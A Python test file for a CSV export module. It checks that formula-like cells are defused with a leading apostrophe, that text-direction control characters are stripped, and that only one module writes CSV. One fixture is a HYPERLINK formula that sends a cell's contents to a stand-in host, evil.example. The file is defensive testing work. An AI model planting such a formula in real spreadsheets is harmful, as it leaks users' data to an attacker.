"""What somebody wrote as a name is never run by whoever opens the list."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.kernel.spreadsheet import csv_cell, csv_text, plain
from tests.conftest import ROOT

TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'


@pytest.mark.parametrize(
    "text", [LINK, "+1", "-2+3", "@SUM(A1)", " =1", "\t=1", "\rx", "\nx", "＝1", "'=1", "''@x"]
)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [("Anna", "Anna"), ("'s Hertogenbosch", "'s Hertogenbosch"), ("a=b", "a=b"), (None, ""), (-5, "-5"),
     (Decimal("-5.63"), "-5.63"), (date(2026, 11, 23), "2026-11-23")],
)  # fmt: skip
def test_what_is_no_formula_stays_as_it_is_and_numbers_stay_numbers(value: object, cell: str) -> None:
    assert csv_cell(value) == cell  # pyright: ignore[reportArgumentType]


@given(st.text())
@example("'=x")
@example("''")
def test_what_was_made_inert_reads_as_what_it_was(text: str) -> None:
    assert plain(csv_cell(text)) == text
    assert csv_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@given(
    st.lists(
        st.text(st.characters(exclude_characters="\r\0" + TURNING, exclude_categories=["Cs"])),
        min_size=2,
        max_size=5,
    )
)
def test_a_table_reads_as_what_was_written(cells: list[str]) -> None:
    written = csv_text(["a", "b"], [cells], separator=";")
    _head, row = csv.reader(io.StringIO(written, newline=""), delimiter=";")
    assert [plain(cell) for cell in row] == cells


def test_a_letter_that_turns_the_text_does_not_reach_the_cells_beside() -> None:
    assert (
        csv_text(["a"], [[f"x{letter}1" for letter in TURNING]])
        == f"a\r\n{','.join(['x1'] * len(TURNING))}\r\n"
    )


def test_no_other_module_writes_csv() -> None:
    writers = {path.name for path in (ROOT / "app").rglob("*.py") if "csv.writer(" in path.read_text()}
    assert writers == {"spreadsheet.py"}
